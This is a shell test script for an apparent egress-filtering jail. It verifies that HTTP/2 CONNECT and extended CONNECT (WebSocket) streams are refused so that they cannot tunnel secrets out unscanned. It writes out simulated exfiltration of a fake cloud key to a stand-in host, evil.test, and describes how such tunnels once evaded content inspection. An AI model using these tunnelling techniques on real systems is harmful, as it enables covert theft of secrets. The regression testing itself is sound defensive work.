#!/bin/sh
# 382-h2-connect: an HTTP/2 CONNECT stream is no tunnel out (branch
# redteam-egress2). Before: on an h2c connection to an allowed host a
# CONNECT stream (RFC 9113 8.5) to an allowed :authority, or an extended
# CONNECT (RFC 8441, a WebSocket inside one stream), carried TLS or
# masked WebSocket frames as DATA, which the engine scanned as plain
# body bytes: ciphertext and XOR-masked text passed unread. Now every
# HTTP/2 CONNECT is refused with an event (its :authority is judged like
# an HTTP/1 CONNECT's first, so a refused destination says so). A plain
# h2c request to the same host still arrives.
. "$(dirname "$0")/lib.sh"
dns_sandbox
need_relay

start_server recsrv.py 10.99.0.1 rec
SECRET=AKIAZ7QH3MXR5TLB2WQE
C="$top_srcdir/t/e2e/h2_connect.py"
J="--no-default-policy --relay --allow *.allowed.test --log $T/events.jsonl"
never() { sleep 0.3; ! grep -q "$1" "$rec_LOG"; }
h2() { timeout 20 "$DLPJAIL" $J -- python3 "$C" "$1" far.allowed.test "$rec_PORT" "$2" "$3" > "$T/$1.out" 2>&1
	sed "s/^/# $1: /" "$T/$1.out"; }

h2 connect evil.test:443 "secret=$SECRET"
check "CONNECT stream to a refused :authority: nothing arrives" never "secret="
check "...evented" event_has '"verdict":"deny"' 'CONNECT|fronting'
: > "$T/events.jsonl"
h2 tls far.allowed.test:443 "opaque-372-ciphertext"
check "CONNECT stream to an allowed :authority, TLS inside: nothing arrives" never "opaque-372"
check "...evented as an HTTP/2 CONNECT" event_has '"verdict":"deny"' 'HTTP/2 CONNECT'
: > "$T/events.jsonl"
h2 ws far.allowed.test "masked-372-$SECRET"
check "extended CONNECT (WebSocket in a stream): the request never arrives" never ":protocol\|websocket"
check "...evented as an HTTP/2 CONNECT" event_has '"verdict":"deny"' 'HTTP/2 CONNECT'
h2 get far.allowed.test "clean-372"
check "a plain h2c POST to the same host arrives" grep -q "clean-372" "$rec_LOG"
finish
